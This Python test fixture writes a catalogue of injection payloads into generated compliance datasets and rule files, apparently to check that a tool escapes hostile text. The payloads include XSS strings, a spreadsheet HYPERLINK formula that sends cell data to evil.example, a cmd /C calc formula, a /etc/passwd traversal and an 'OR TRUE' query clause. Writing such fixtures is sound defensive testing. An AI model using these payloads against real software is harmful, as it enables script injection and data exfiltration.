"""Text that attacks whoever reads it, and files that carry it everywhere a run reads text."""

import hashlib
import json
from collections.abc import Iterator, Mapping, Sequence
from itertools import cycle, islice
from pathlib import Path

import yaml

from compliance.inputs.discovery import shipped_rules
from compliance.quoting import literal
from tests.factories import write_manifest

SECRET = "hunter2"  # noqa: S105 - to be hidden
ATTACKS: Mapping[str, str] = {
    "script": "<script>alert(1)</script>",
    "closed script": "</script></style></title><img src=x onerror=alert(1)>",
    "attribute": '" onmouseover="alert(1)" x="',
    "single quotes": "' autofocus onfocus='alert(1)",
    "comment": "--><!--<svg/onload=alert(1)>",
    "character data": "]]><x xmlns='http://evil.example/'/>",
    "entities": "&lt;script&gt;&#60;script&#62;&nbsp",
    "templates": "{{ 7 * 7 }}{% for x in y %}${7 * 7}#{7 * 7}",
    "places": "{0.__class__}{count!r} %s %(x)s %n",
    "link": "javascript:alert(1)",
    "page": "data:text/html;base64,PHNjcmlwdD4=",
    "markdown": "[x](javascript:alert(1)) ![x](http://evil.example/i.png) <b>|`` ` ```",
    "headings": "# x\n\n---\n| a |\n| - |\n* [ ] x",
    "console markup": "[bold red]x[/bold red] [link=http://evil.example]x[/link] :skull:",
    "formula": '=HYPERLINK("http://evil.example/?"&A1)',
    "formulas": "+1+cmd|' /C calc'!A0",
    "at": "@SUM(1+1)",
    "minus": "-2+3",
    "terminal": "\x1b[2J\x1b[31m\x1b]0;title\x07\x08\x7f",
    "eight bits": "\x9b31m\x85\x90",
    "direction": "safe\u202egpj.exe\u2066 \u200f",
    "unseen": "ad\u200bmin\ufeff\u00ad\U000e0041",
    "lines": "a\r\nb\u2028c\u2029d\x0be",
    "nothing": "a\x00b",
    "secret": f"https://user:{SECRET}@evil.example/a?sig={SECRET}#{SECRET}",
    "bare secret": f"evil.example/a?sig={SECRET}",
    "workflow": "::error file=x,line=1::y\n##vso[task.complete]",
    "path": "../../../../etc/passwd",
    "long": "A" * 50_000,
    "wide": "\U0001f469\u200d\U0001f4bb" * 10_000,
    "marks": "e" + "\u0301" * 10_000,
}

_TEXTS = (
    "id",
    "url",
    "creator",
    "license",
    "platform",
    "publisher",
    "purpose",
    "acquisition_method",
    "grant_id",
)
_KNOWN = {"platform": "evil", "acquisition_method": "crawl", "collected_at": "2026-01-01"}
_RULE_TEXTS = ("title", "how_to_fix", "rationale", "legal_note", "message")
_IN_A_DATASET = 2
_EXPIRES = ("2026-09-01", "2026-08-01")


def write_hostile(folder: Path) -> None:
    """Write datasets below `data`, and the laws of a team in `laws`: each attack is in every kind of file."""
    everything = list(ATTACKS.values())
    for place, attacks in enumerate(_batched(everything, _IN_A_DATASET)):
        _write_dataset(folder / "data" / str(place), attacks)
    _write(folder / "laws" / "pack.yaml", {"name": "evil", "version": "1.0.0", "title": ATTACKS["script"]})
    for place, attacks in enumerate(_batched(_public(), len(_RULE_TEXTS))):
        _write(folder / "laws" / f"rule-{place}.yaml", _rule(attacks))
    _write(folder / "laws" / "reference" / "platforms" / "evil.yaml", _platform())
    _write(folder / "laws" / "adjustments.yaml", {"off": _reasons(everything)})


def _public() -> list[str]:
    """Return the attacks without secrets: rules and terms are public."""
    return [attack for attack in ATTACKS.values() if SECRET not in attack]


def _batched(attacks: Sequence[str], size: int) -> Iterator[list[str]]:
    for start in range(0, len(attacks), size):
        yield list(islice(cycle(attacks), start, start + size))


def _write_dataset(folder: Path, attacks: Sequence[str]) -> None:
    hostile = [{attack[:80]: attack, **dict.fromkeys(_TEXTS, attack)} for attack in attacks]
    rows = [*hostile, *({**row, **_KNOWN} for row in hostile)]
    write_manifest(folder / f"{_file_name(attacks[0])}.parquet", rows)
    name, version = attacks
    _write(folder / "dataset.yaml", {"name": name, "version": version, "owner": name, "released_to": version})
    known = {"type": "contract", "platform": "evil", "valid_to": "2020-01-01"}
    grants = [{**known, "id": attack, "plan": attack, "licensor": attack} for attack in attacks]
    _write(folder / "grants.yaml", {"grants": grants})
    _write_amendments(folder, name, attacks)


def _write_amendments(folder: Path, dataset: str, attacks: Sequence[str]) -> None:
    """Write a waiver that holds and one that lapsed, corrections of every record, and a baseline."""
    paper = folder / "papers" / f"{_file_name(attacks[0])}.txt"
    paper.parent.mkdir()
    paper.write_text("evidence", encoding="utf-8")
    digest = hashlib.sha256(paper.read_bytes()).hexdigest()
    document = {"path": str(paper.relative_to(folder)), "sha256": digest}
    waivers = [
        {
            **_said(attack, dataset),
            "rule": f"evil/rule-{place}",
            "rule_version": 1,
            "reason": "legal_review",
            "approver": attack,
            "expires": expires,
            "row_budget": 1_000,
            "document": document,
        }
        for place, (attack, expires) in enumerate(zip(attacks, _EXPIRES, strict=True))
    ]
    corrections = [
        {**_said(attack, dataset), "set": {"publisher": attack}, "document": document} for attack in attacks
    ]
    _write(folder / "waivers.yaml", {"waivers": waivers})
    _write(folder / "corrections.yaml", {"corrections": corrections})
    entry = {"rule": attacks[0], "rule_version": 1, "dataset": dataset, "verdict": "violation", "records": 1}
    baseline = {"entries": [{**entry, "fingerprint": "ab" * 16}]}
    (folder / "baseline.json").write_text(json.dumps(baseline), encoding="utf-8")


def _said(attack: str, dataset: str) -> dict[str, object]:
    """Return what waivers and corrections have in common."""
    said = {"explanation": attack, "owner": attack, "created": "2026-01-01"}
    return {**said, "id": attack, "dataset": dataset, "where": f"record.creator = {literal(attack)} OR TRUE"}


def _file_name(attack: str) -> str:
    # The name of a file is no address: what looks like a secret in it is none.
    shown = attack.replace(SECRET, "x").replace("/", "_").replace("\x00", "")
    return shown[:40].lstrip("._") or "x"


def _rule(attacks: Sequence[str]) -> dict[str, object]:
    texts = dict(zip(_RULE_TEXTS, attacks, strict=True))
    message = texts["message"].replace("{", "{{").replace("}", "}}")
    return {
        **texts,
        "severity": "high",
        "confidence": "high",
        "clock": "collected_at",
        "applies": "platform.id = 'evil' OR record.license IS NOT NULL",
        "requires": "terms.automated_collection = 'allowed' AND record.creator = 'x' AND grant.in_force",
        "message": f"{message} {{count}} {{platform}} {{license}} {{grant}} {{dataset}}",
        "references": [{"title": attack, "source": attack} for attack in attacks],
        "cases": [{"name": attacks[0], "record": {"platform": "evil"}, "expect": "violation"}],
    }


def _platform() -> dict[str, object]:
    short = [attack for attack in _public() if len(attack) < 1_000]
    return {
        "id": "evil",
        "name": ATTACKS["script"],
        "owner": ATTACKS["terminal"],
        "domains": {"primary": ["evil.example"], "source": {"url": "https://evil.example/"}},
        "documents": list(map(_document, _batched(short, 5))),
    }


def _document(attacks: Sequence[str]) -> dict[str, object]:
    title, note, condition, source, url = attacks
    clause = {
        "clause": "automated_collection",
        "value": "prohibited",
        "basis": "stated",
        "effective_from": "2025-01-01",
        "note": note,
        "conditions": [condition],
        "source": {"title": source, "url": url},
    }
    return {"title": title, "binds": ["visitors"], "clauses": [clause]}


def _reasons(attacks: Sequence[str]) -> dict[str, str]:
    packs = sorted(path.parent.name for path in shipped_rules().glob("*/pack.yaml"))
    return {f"{pack}/*": "\n".join(attacks[place :: len(packs)]) for place, pack in enumerate(packs)}


def _write(path: Path, document: Mapping[str, object]) -> None:
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(yaml.safe_dump(document, width=2**20), encoding="utf-8")
